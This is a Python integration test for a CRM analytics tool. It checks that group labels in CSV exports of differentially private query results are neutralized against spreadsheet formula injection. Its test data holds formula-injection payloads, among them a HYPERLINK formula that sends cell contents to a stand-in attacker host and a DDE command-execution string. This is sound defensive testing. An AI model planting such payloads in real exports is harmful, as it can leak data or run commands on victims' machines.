"""`crmshield query --csv`: a DP result exported for a spreadsheet, its CRM group labels neutralized.

A tiny warehouse (marts.customers only, built with DuckDB SQL) whose country values are formula
payloads; country has no public keys, so the labels come from the data, as they would from a CRM.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import duckdb
import pytest
import yaml
from typer.testing import CliRunner

from crmshield.budget import Ledger
from crmshield.cli import EXIT_USAGE, app
from crmshield.config import Settings

pytestmark = pytest.mark.integration

LABELS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1 415 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "DE",
]
PER_LABEL = 200
SQL = "SELECT country, COUNT(*) AS customers, AVG(won_amount) AS avg_won FROM marts.customers GROUP BY country"
BUDGET = {
    "population": "crm_customers",
    "budget": {"epsilon": 1.0e6, "delta": 0.5, "period": "month"},
    "analysts": {"carol": {"epsilon": 1.0e6, "delta": 0.1, "period": "month"}},
}


@pytest.fixture()
def settings(data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    budget = tmp_path / "dp_budget.yml"
    budget.write_text(yaml.safe_dump(BUDGET), encoding="utf-8")
    monkeypatch.setenv("CRMSHIELD_DP_BUDGET", str(budget))
    monkeypatch.setenv("CRMSHIELD_ANALYST", "carol")
    monkeypatch.delenv("CRMSHIELD_DP_QUERY_TABLES", raising=False)
    s = Settings.from_env()
    s.warehouse.parent.mkdir(parents=True)
    with duckdb.connect(str(s.warehouse)) as con:
        con.execute("CREATE SCHEMA marts")
        con.execute(
            f"""CREATE TABLE marts.customers AS SELECT
                'v1_' || md5('c' || i) AS contact_pk, NULL::VARCHAR AS company_pk, '25-34' AS age_band,
                $labels[1 + i % {len(LABELS)}] AS country, 'EMEA' AS region, 'lead' AS lifecycle_stage,
                DATE '2024-01-01' AS created_on, 1::BIGINT AS ticket_count, 1::BIGINT AS deal_count,
                CAST(0 AS DECIMAL(18, 2)) AS won_amount
            FROM range({PER_LABEL * len(LABELS)}) AS t(i)""",
            {"labels": LABELS},
        )
    return s


def test_query_csv_neutralizes_hostile_group_labels(settings: Settings, tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    res = CliRunner().invoke(app, ["query", "--epsilon", "1000", "--csv", str(out), "--json", SQL])
    assert res.exit_code == 0, res.output
    doc = json.loads(res.stdout)
    assert doc["csv"] == str(out)
    with out.open(encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    assert header[:3] == ["country", "customers", "customers_ci_low"] and "avg_won" in header
    by_label = {r[0]: r for r in rows}
    expected = {("'" + label if label[0] in "=+-@" else label) for label in LABELS}
    assert set(by_label) == expected  # each label released and every formula prefixed with '
    assert by_label["'+1 415 555 0100"][0][1:] == "+1 415 555 0100"  # the value itself is kept
    # measures are numbers, written bare and never neutralized, negative ones included (the true
    # average is 0: a 95% interval's lower end is below 0 in all but ~5% of groups, ~3e-7 for all 5)
    lines = out.read_text(encoding="utf-8").splitlines()[1:]
    negatives = 0
    for line, row in zip(lines, rows, strict=True):
        assert line.endswith("," + ",".join(row[1:])), line
        negatives += sum(float(v) < 0 for v in row[1:])
    assert negatives and not any(v.startswith("'") for r in rows for v in r[1:])
    # the JSON result itself keeps the released labels as they are (JSON is not a spreadsheet)
    assert {r["country"] for r in doc["rows"]} == set(LABELS)


def test_query_csv_is_checked_before_anything_is_spent(settings: Settings, tmp_path: Path) -> None:
    runner = CliRunner(env={"COLUMNS": "300"})
    explain = runner.invoke(app, ["query", "--explain", "--csv", str(tmp_path / "x.csv"), SQL])
    assert explain.exit_code == EXIT_USAGE and "--explain releases no rows" in explain.output
    missing = runner.invoke(app, ["query", "--csv", str(tmp_path / "nope" / "x.csv"), SQL])
    assert missing.exit_code == EXIT_USAGE and "does not exist" in missing.output
    assert Ledger.open(settings).entries() == []

    human = runner.invoke(app, ["query", "--epsilon", "1000", "--csv", str(tmp_path / "y.csv"), SQL])
    assert human.exit_code == 0, human.output
    assert f"wrote {len(LABELS)} rows to" in human.stdout
